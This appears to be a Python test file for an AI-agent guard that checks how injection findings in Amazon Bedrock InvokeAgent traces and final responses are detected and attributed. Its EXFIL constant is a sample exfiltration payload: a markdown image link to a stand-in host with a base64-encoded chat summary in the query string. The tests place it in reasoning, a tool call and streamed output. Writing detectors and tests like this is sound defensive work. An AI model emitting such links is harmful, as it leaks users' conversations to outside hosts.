"""InvokeAgent with a trace: the agent's final response is judged as model output unless a
model's judged answer carried it; a harmless earlier answer is no judgement of it."""

from __future__ import annotations

import json
from typing import Any

from tests.bedrock_server import AgentEvents, agent_chunk, agent_trace

MODEL = "anthropic.claude-3-5-sonnet-20240620-v1:0"
EXFIL = ("Your refund is approved. ![ok](https://t.exfil-cdn.example/p.png?d="
         "U2VjcmV0IHN1bW1hcnkgb2YgdGhlIGNoYXQgc28gZmFyIDEyMzQ1Ng)")


def _model_step(trace: str, trace_id: str, content: str) -> list[tuple[str, dict[str, Any]]]:
    return [
        agent_trace(**{trace: {"modelInvocationInput": {
            "traceId": trace_id, "type": "ORCHESTRATION", "foundationModel": MODEL,
            "text": "refund order 42"}}}),
        agent_trace(**{trace: {"modelInvocationOutput": {
            "traceId": trace_id, "rawResponse": {"content": content}}}}),
    ]


def _final(text: str) -> tuple[str, dict[str, Any]]:
    return agent_trace(orchestrationTrace={"observation": {
        "traceId": "t-9", "type": "FINISH", "finalResponse": {"text": text}}})


def _invoke(runtime: Any) -> None:
    list(runtime("bedrock-agent-runtime").invoke_agent(
        agentId="AGENT1", agentAliasId="ALIAS1", sessionId="session-1", enableTrace=True,
        inputText="refund order 42")["completion"])


def _injections(findings: list[Any]) -> list[Any]:
    return [f for f in findings if f.category == "injection"]


def test_a_final_response_after_a_harmless_traced_answer_is_judged(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """The trace carries a harmless pre-processing verdict and the final answer only as the
    agent's ``finalResponse``: the exfiltration link in it is a model-output finding on the
    agent span."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    bedrock.push(AgentEvents([*_model_step("preProcessingTrace", "pre-0",
                                           "<category>D</category>"),
                              _final(EXFIL), agent_chunk(EXFIL)]))
    _invoke(runtime)
    [finding] = _injections(findings)
    assert finding.evidence["source"]["kind"] == "model_output"
    assert spans.one("invoke_agent AGENT1").attributes["agentguard.finding.count"] == 1


def test_a_final_answer_given_only_as_reasoning_and_a_tool_call_is_judged(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """The orchestration answer keeps the link in its ``<thinking>`` and sends the reply as a
    tool call's input (no text is judged on the chat span): the final response is judged."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    raw = json.dumps({"id": "msg_1", "type": "message", "role": "assistant", "content": [
        {"type": "text", "text": f"<thinking>reply with {EXFIL}</thinking>"},
        {"type": "tool_use", "id": "toolu_1", "name": "AgentCommunication__sendMessage",
         "input": {"recipient": "User", "content": EXFIL}}], "stop_reason": "tool_use"})
    bedrock.push(AgentEvents([*_model_step("orchestrationTrace", "t-0", raw), _final(EXFIL),
                              agent_chunk(EXFIL)]))
    _invoke(runtime)
    assert [f.evidence["source"]["kind"] for f in _injections(findings)] == ["model_output"]
    assert spans.one("invoke_agent AGENT1").attributes["agentguard.finding.count"] == 1


def test_a_final_response_a_model_answer_carried_is_judged_once(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """The orchestration answer is the final response: judged on its chat span only, not again
    as the final response or the streamed answer."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    bedrock.push(AgentEvents([*_model_step("orchestrationTrace", "t-0", f"  {EXFIL}\n"),
                              _final(EXFIL), agent_chunk(EXFIL)]))
    _invoke(runtime)
    [finding] = _injections(findings)
    assert finding.evidence["source"]["ref"] == MODEL
    assert "agentguard.finding.count" not in spans.one("invoke_agent AGENT1").attributes


def test_a_streamed_answer_no_judged_answer_carried_is_judged(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """The trace carries only a harmless earlier answer and no final response: the answer the
    caller reads is judged on the agent span once the stream ends."""
    findings: list[Any] = []
    guarded(on_finding=findings.append)
    bedrock.push(AgentEvents([*_model_step("orchestrationTrace", "t-0",
                                           "I will look up the order."),
                              agent_chunk(EXFIL)]))
    _invoke(runtime)
    [finding] = _injections(findings)
    assert finding.evidence["source"]["kind"] == "model_output"
    assert spans.one("invoke_agent AGENT1").attributes["agentguard.finding.count"] == 1
